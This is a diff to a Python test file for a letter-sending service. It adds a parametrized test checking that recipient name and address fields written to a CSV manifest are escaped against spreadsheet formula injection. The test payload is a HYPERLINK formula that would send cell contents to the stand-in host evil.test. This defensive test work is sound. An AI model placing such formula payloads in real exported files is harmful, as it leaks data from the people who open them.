@@ -164,7 +164,7 @@ async def test_manifest_rows_accumulate_and_stay_whole(tmp_path: Path) -> None:
     rows = read_manifest(manifest)
     assert [r["message_id"] for r in rows] == ["1", "2"]
     assert manifest.read_text().endswith("\n")
-    assert manifest.read_text().count("message_id,file") == 1
+    assert manifest.read_text().count('"message_id","file"') == 1
 
 
 async def test_pdf_replaced_if_missing_without_a_second_row(tmp_path: Path) -> None:
@@ -384,3 +384,27 @@ async def test_two_workers_on_one_message_make_one_letter(tmp_path: Path) -> Non
     assert [r["message_id"] for r in read_manifest(tmp_path / DAY / "manifest.csv")] == ["11"]
     assert temps(tmp_path / DAY) == []
     check_invariants(tmp_path)
+
+
+# Each way a spreadsheet may start a formula (OWASP CSV Injection), a full-width sign and one
+# behind spaces: the recipient's name and address come from the imported portfolio.
+FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "  ="]
+TRIGGERS = set("=+-@\t\r\n\uff1d")
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+async def test_no_cell_of_the_manifest_can_start_a_formula(tmp_path: Path, prefix: str) -> None:
+    payload = prefix + 'HYPERLINK("https://evil.test/?"&A1;"Pay")'
+    postal = replace(ADDRESS, name=payload, line1=payload, city=payload)
+    result = await LetterChannel(tmp_path, clock=SimulatedClock(START)).send(
+        letter(5, "<p>Short letter.</p>", postal)
+    )
+    assert result.status is SendStatus.SENT, result
+    manifest = tmp_path / "2026-12-16" / "manifest.csv"
+    (row,) = read_manifest(manifest)
+    assert row["recipient"] == row["address_line1"] == row["city"] == "'" + payload
+    assert row["message_id"] == "5" and row["pages"] == "1" and row["state"] == "CA"
+    assert not [c for c in row.values() if c[:1] in TRIGGERS or c.lstrip()[:1] in TRIGGERS]
+    # Quoted, so a spreadsheet splitting on ';' cannot start a cell at `"Pay"` either.
+    quoted = '"' + ("'" + payload).replace('"', '""') + '"'
+    assert quoted in manifest.read_bytes().decode()
